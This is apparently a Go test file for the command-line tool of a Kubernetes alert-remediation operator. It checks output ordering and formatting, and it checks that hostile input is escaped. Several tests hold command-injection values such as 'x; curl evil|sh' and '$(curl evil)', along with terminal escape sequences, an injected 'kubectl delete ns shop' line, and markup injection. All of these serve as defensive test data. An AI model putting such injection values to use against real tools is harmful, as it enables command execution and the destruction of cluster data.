package cli

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kubernaut/kubernaut/api/v1alpha1"
	"github.com/kubernaut/kubernaut/internal/kubetest/build"
)

func TestTheTablePutsWhatWaitsForAPersonFirst(t *testing.T) {
	now := build.Started.Add(time.Hour)
	item := func(name string, change func(*v1alpha1.AlertRemediation)) v1alpha1.AlertRemediation {
		return *build.Remediation("shop", name).With(func(ar *v1alpha1.AlertRemediation) {
			ar.CreationTimestamp = metav1.NewTime(build.Started)
			change(ar)
		}).Obj()
	}
	items := []v1alpha1.AlertRemediation{
		item("ended", func(ar *v1alpha1.AlertRemediation) {
			ar.Status.Outcome = v1alpha1.OutcomeRemediated
			ar.Status.Conditions = []metav1.Condition{{Type: v1alpha1.Succeeded, Status: metav1.ConditionTrue, Message: "the target is well"}}
		}),
		item("new", func(*v1alpha1.AlertRemediation) {}),
		item("waiting", func(ar *v1alpha1.AlertRemediation) {
			ar.Status.Phase = v1alpha1.PhaseAwaitingApproval
			ar.Status.Diagnosis = &v1alpha1.Diagnosis{Cause: v1alpha1.CauseOOMKilled}
			ar.Status.Conditions = []metav1.Condition{{Type: v1alpha1.Approved, Status: metav1.ConditionUnknown, Message: "waits for a person"}}
		}),
		item("cooling", func(ar *v1alpha1.AlertRemediation) { heldBack(ar, v1alpha1.ModeAuto, v1alpha1.ReasonCooldown, nil) }),
		item("paused", func(ar *v1alpha1.AlertRemediation) { heldBack(ar, v1alpha1.ModeApprove, v1alpha1.ReasonPaused, nil) }),
		item("answered", func(ar *v1alpha1.AlertRemediation) {
			heldBack(ar, v1alpha1.ModeApprove, v1alpha1.ReasonPaused, &v1alpha1.Approval{Decision: v1alpha1.DecisionApproved})
		}),
	}
	var got bytes.Buffer
	if err := (table{items: items, everywhere: true, now: now}).print(Screen{Writer: &got}); err != nil {
		t.Fatal(err)
	}
	want := `NAMESPACE  NAME      ALERT                TARGET  IS                CAUSE      ACTION  AGE  WHY
shop       waiting   KubePodCrashLooping  -       AwaitingApproval  OOMKilled  -       60m  waits for a person
shop       paused    KubePodCrashLooping  -       Paused            -          -       60m  until then
shop       new       KubePodCrashLooping  -       Pending           -          -       60m  -
shop       cooling   KubePodCrashLooping  -       Cooldown          -          -       60m  until then
shop       answered  KubePodCrashLooping  -       Paused            -          -       60m  until then
shop       ended     KubePodCrashLooping  -       Remediated        -          -       60m  the target is well
`
	if got.String() != want {
		t.Errorf("got:\n%s\nwant:\n%s", got.String(), want)
	}
}

// heldBack makes a gate hold the plan of a remediation back.
func heldBack(ar *v1alpha1.AlertRemediation, mode v1alpha1.Mode, reason string, answer *v1alpha1.Approval) {
	ar.Spec.Approval = answer
	ar.Status.Phase, ar.Status.Plan = v1alpha1.PhaseWaiting, &v1alpha1.PlanStatus{Mode: mode}
	ar.Status.Conditions = []metav1.Condition{{Type: v1alpha1.Approved, Status: metav1.ConditionUnknown, Reason: reason, Message: "until then"}}
}

func TestNothingFromOutsideReachesATerminalRaw(t *testing.T) {
	const trick = "\x1b]0;pwned\x07\x1b[2Jno\u202eitcudorp\nDEL"
	ar := build.Remediation("shop", "a").With(func(ar *v1alpha1.AlertRemediation) {
		ar.Spec.Alert.Name = trick
		ar.Spec.Approval = &v1alpha1.Approval{By: trick, Reason: trick, At: metav1.NewTime(build.Started)}
		ar.Status.Diagnosis = &v1alpha1.Diagnosis{Summary: trick, Evidence: []v1alpha1.Evidence{{Says: trick}}}
		ar.Status.Plan = &v1alpha1.PlanStatus{
			Steps:    []v1alpha1.PlanStep{{Action: trick, Diff: trick, Undo: trick, NotChecked: []string{trick}}},
			Refusals: []v1alpha1.Refusal{{Reason: "Paused", Message: trick}},
		}
	}).Obj()
	var got bytes.Buffer
	p := printer{Screen: Screen{Writer: &got}}
	p.describe(ar)
	p.tell(story{ar: ar})
	p.postMortem(story{ar: ar})
	if p.err != nil {
		t.Fatal(p.err)
	}
	if err := (table{items: []v1alpha1.AlertRemediation{*ar}, now: build.Started}).print(p.Screen); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(got.String(), "\x1b\x07\u202e") || strings.Contains(got.String(), "\nDEL") {
		t.Errorf("got:\n%q", got.String())
	}
}

func TestNoNameFromOutsideDoesHarmInACommand(t *testing.T) {
	rows := map[string]struct{ name, want string }{
		"a name as people give them": {"anna:approves", "  kubectl -n shop delete rolebinding anna:approves\n"},
		"a second command":           {"x; curl evil|sh", `name x\x3b curl evil\x7csh`},
		"a substitution":             {"$(curl evil)`id`", `name \x24\x28curl evil\x29\x60id\x60`},
		"a flag":                     {"--all", "name --all"},
		"a terminal's escape":        {"x\x1b[2J\u202eno\u009b", `name x\x1b\x5b2J\u202eno\u009b`},
		"a line of its own":          {"x\n  kubectl delete ns shop", `name x\x0a  kubectl delete ns shop`},
		"a quote":                    {`'"\`, `name \x27\x22\x5c`},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			binding := &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: row.name, UID: "u"},
				RoleRef:    rbacv1.RoleRef{Kind: "ClusterRole", Name: "kubernaut-viewer"},
			}
			var left remains
			left.ungrant(binding)
			var got bytes.Buffer
			p := printer{Screen: Screen{Writer: &got}}
			p.left(left)
			if p.err != nil || !strings.Contains(got.String(), row.want) {
				t.Errorf("got %q and the error %v, want %q in it", got.String(), p.err, row.want)
			}
			command := strings.Contains(got.String(), "delete rolebinding ")
			if command != plain.MatchString(row.name) || strings.ContainsAny(got.String(), "\x1b\u202e\u009b$`'\"|") {
				t.Errorf("got %q", got.String())
			}
		})
	}
}

func TestWhatAnObjectSaysDoesNoHarmInAnError(t *testing.T) {
	const trick = "x\x1b[2J`; curl evil|sh"
	unfit := func(status v1alpha1.AlertRemediationStatus) error {
		return Answer{Decision: v1alpha1.DecisionApproved}.fits(build.Remediation("shop", "a").With(func(ar *v1alpha1.AlertRemediation) { ar.Status = status }).Obj())
	}
	plan := &v1alpha1.PlanStatus{Digest: build.Digest, Mode: v1alpha1.ModeApprove}
	rows := map[string]struct {
		err  error
		want string
	}{
		"the run that carries it out": {unfit(v1alpha1.AlertRemediationStatus{RunRef: trick, Plan: plan}), "WorkflowRun x\\x1b\\x5b2J\\x60\\x3b curl evil\\x7csh: to stop it, `kubectl patch wr NAME -n shop"},
		"what it is a duplicate of":   {unfit(v1alpha1.AlertRemediationStatus{DuplicateOf: trick}), "`kubectl kubernaut describe NAME -n shop`"},
		"the policy that decided":     {unfit(v1alpha1.AlertRemediationStatus{Plan: &v1alpha1.PlanStatus{Digest: build.Digest, Policy: trick}}), "asks nobody"},
		"the namespace of a refusal": {
			forbidden(errors.New(`User "anna" cannot list resource "alertremediations" in API group "kubernaut.io" in the namespace "` + trick + `"`)),
			"ask whoever administers that namespace for that right",
		},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			if got := fmt.Sprint(row.err); !strings.Contains(got, row.want) || strings.Contains(got, "\x1b") {
				t.Errorf("got %q, want %q in it", got, row.want)
			}
		})
	}
}

func TestTheTimelineIsInOrder(t *testing.T) {
	ar := build.Remediation("shop", "a").With(func(ar *v1alpha1.AlertRemediation) {
		ar.CreationTimestamp = metav1.NewTime(build.Started.Add(time.Minute))
		ar.Status.Conditions = []metav1.Condition{
			{Type: v1alpha1.Succeeded, Status: metav1.ConditionTrue, Reason: "Remediated", LastTransitionTime: metav1.NewTime(build.Started.Add(9 * time.Minute))},
			{Type: v1alpha1.Admitted, Status: metav1.ConditionTrue, Reason: "TargetFound", LastTransitionTime: metav1.NewTime(build.Started.Add(2 * time.Minute))},
		}
		ar.Spec.Approval = &v1alpha1.Approval{Decision: v1alpha1.DecisionApproved, By: "anna", At: metav1.NewTime(build.Started.Add(3 * time.Minute))}
		ar.Status.Alert = &v1alpha1.AlertStatus{State: v1alpha1.AlertResolved, ResolvedAt: metav1.NewTime(build.Started.Add(8 * time.Minute))}
	}).Obj()
	var got bytes.Buffer
	p := printer{Screen: Screen{Writer: &got}}
	p.tell(story{ar: ar})
	if p.err != nil {
		t.Fatal(p.err)
	}
	want := `2026-03-01 03:00:00Z  the alert KubePodCrashLooping begins to fire
2026-03-01 03:01:00Z  received from Manual, as a
2026-03-01 03:02:00Z  admitted (TargetFound)
2026-03-01 03:03:00Z  Approved by anna
2026-03-01 03:08:00Z  the alert stops
2026-03-01 03:09:00Z  ended as Remediated
`
	if got.String() != want {
		t.Errorf("got:\n%s\nwant:\n%s", got.String(), want)
	}
}

func TestARemedyThatCannotBePlannedIsShownWithWhy(t *testing.T) {
	ar := waiting()
	ar.Status.Diagnosis.Remedies = []v1alpha1.Remedy{
		{Action: "SetImage", Refused: &v1alpha1.Refusal{Reason: v1alpha1.ReasonNotApplicable, Message: "SetImage: no revision had it\x1b[2J"}},
		{Action: "RolloutUndo"},
	}
	ar.Status.Plan.Steps[0].Note = "this is the next larger step: 256Mi was tried"
	var got bytes.Buffer
	p := printer{Screen: Screen{Writer: &got}}
	p.describe(ar)
	for _, want := range []string{"         no SetImage (NotApplicable): SetImage: no revision had it", "Note: this is the next larger step: 256Mi was tried\n"} {
		if !strings.Contains(got.String(), want) {
			t.Errorf("%q is missing in:\n%s", want, got.String())
		}
	}
	for _, never := range []string{"no RolloutUndo", "\x1b"} {
		if strings.Contains(got.String(), never) {
			t.Errorf("%q is in:\n%s", never, got.String())
		}
	}
}

func TestATerminalGetsColoursAndAPipeDoesNot(t *testing.T) {
	item := func(name string, outcome v1alpha1.Outcome) v1alpha1.AlertRemediation {
		return *build.Remediation("shop", name).With(func(ar *v1alpha1.AlertRemediation) {
			ar.CreationTimestamp = metav1.NewTime(build.Started)
			ar.Status.Outcome = outcome
		}).Obj()
	}
	items := []v1alpha1.AlertRemediation{item("a", v1alpha1.OutcomeRemediated), item("b", v1alpha1.OutcomeFailed), item("c", v1alpha1.OutcomeDuplicate)}
	shown := table{items: items, now: build.Started}
	var plain, coloured bytes.Buffer
	if err := errors.Join(shown.print(Screen{Writer: &plain}), shown.print(Screen{Writer: &coloured, Colours: true})); err != nil {
		t.Fatal(err)
	}
	bare := strings.NewReplacer("\x1b[32m", "", "\x1b[31m", "", "\x1b[0m", "").Replace(coloured.String())
	if bare != plain.String() || !strings.Contains(coloured.String(), "\x1b[32mRemediated\x1b[0m") || !strings.Contains(coloured.String(), "\x1b[31mFailed\x1b[0m") {
		t.Errorf("got %q", coloured.String())
	}
	if strings.Contains(plain.String(), "\x1b") {
		t.Errorf("a pipe got %q", plain.String())
	}
}

func TestThePostMortemIsHarmlessWhereItIsRendered(t *testing.T) {
	ar := build.Remediation("shop", "a").With(func(ar *v1alpha1.AlertRemediation) {
		ar.Status.Diagnosis = &v1alpha1.Diagnosis{Cause: v1alpha1.CauseOOMKilled, Summary: "it [needs](http://x) more", Evidence: []v1alpha1.Evidence{{Kind: v1alpha1.EvidenceEvent, Says: "<b>killed</b>"}}}
	}).Obj()
	var got bytes.Buffer
	p := printer{Screen: Screen{Writer: &got}}
	p.postMortem(story{ar: ar})
	for _, want := range []string{`it \[needs\](http://x) more`, `- Event: \<b\>killed\</b\>`} {
		if !strings.Contains(got.String(), want) {
			t.Errorf("got no %q in:\n%s", want, got.String())
		}
	}
}

func TestTheDoctorKnowsWhenAlertmanagerWasHeardOf(t *testing.T) {
	now := build.Started.Add(time.Hour)
	heard := func(at time.Time) v1alpha1.AlertRemediation {
		return *build.Remediation("shop", "a").FromAlertmanager("f00d").With(func(ar *v1alpha1.AlertRemediation) {
			ar.CreationTimestamp = metav1.NewTime(build.Started)
			ar.Status.Alert = &v1alpha1.AlertStatus{LastReceivedAt: metav1.NewTime(at)}
			ar.Status.Phase = v1alpha1.PhaseAwaitingApproval
		}).Obj()
	}
	cooling := *build.Remediation("shop", "c").Obj()
	heldBack(&cooling, v1alpha1.ModeAuto, v1alpha1.ReasonCooldown, nil)
	rows := map[string]struct {
		all  []v1alpha1.AlertRemediation
		want []string
	}{
		"a cooldown asks nothing of a person": {[]v1alpha1.AlertRemediation{cooling}, []string{"Alertmanager has sent nothing yet, or nothing of it is kept"}},
		"never":                               {nil, []string{"Alertmanager has sent nothing yet, or nothing of it is kept"}},
		"only of what a person wrote":         {[]v1alpha1.AlertRemediation{*build.Remediation("shop", "b").Obj()}, []string{"Alertmanager has sent nothing yet, or nothing of it is kept"}},
		"at the last delivery":                {[]v1alpha1.AlertRemediation{heard(now.Add(-5 * time.Minute))}, []string{"Alertmanager was last heard of 5m ago", "plans that wait for somebody: 1"}},
		"at the first, when it was one":       {[]v1alpha1.AlertRemediation{heard(time.Time{})}, []string{"Alertmanager was last heard of 60m ago", "plans that wait for somebody: 1"}},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, f := range alerts(row.all, now) {
				got = append(got, f.says)
			}
			if !slices.Equal(got, row.want) {
				t.Errorf("got %q, want %q", got, row.want)
			}
		})
	}
}

// cancelling ends what is under way as soon as the person is asked.
type cancelling struct{ cancel context.CancelFunc }

func (c cancelling) Write(p []byte) (int, error) {
	c.cancel()
	return len(p), nil
}

func TestAnInterruptEndsTheQuestion(t *testing.T) {
	silent, keyboard := io.Pipe() // nobody types, as long as nobody closes it
	defer func() { _ = keyboard.Close() }()
	ctx, cancel := context.WithCancel(t.Context())
	err := Answer{Decision: v1alpha1.DecisionApproved}.confirm(ctx, Person{In: silent, Terminal: true}, cancelling{cancel})
	if err == nil || err.Error() != "nothing was answered" {
		t.Errorf("got %v", err)
	}
}

func TestTheDoctorCountsReplicas(t *testing.T) {
	rows := map[string]struct {
		wanted *int32
		ready  int32
		want   string
	}{
		"all":              {new(int32(2)), 2, "ok: the operator runs, replicas ready: 2"},
		"some":             {new(int32(2)), 1, "note: 1 of the operator's 2 replicas are ready"},
		"none":             {new(int32(2)), 0, "FAIL: none of the operator's 2 replicas is ready"},
		"none, none asked": {new(int32(0)), 0, "FAIL: the operator is scaled to no replicas: nothing is diagnosed or done"},
		"as many as unset": {nil, 1, "ok: the operator runs, replicas ready: 1"},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			deployment := &appsv1.Deployment{Spec: appsv1.DeploymentSpec{Replicas: row.wanted}, Status: appsv1.DeploymentStatus{ReadyReplicas: row.ready}}
			f := Doctor{Operator: Operator{Namespace: "kubernaut-system"}}.replicas(deployment)
			if got := f.mark + ": " + f.says; got != row.want {
				t.Errorf("got %q, want %q", got, row.want)
			}
			if (f.mark == "ok") != (f.mend == "") {
				t.Errorf("the command that mends it: %q", f.mend)
			}
		})
	}
}
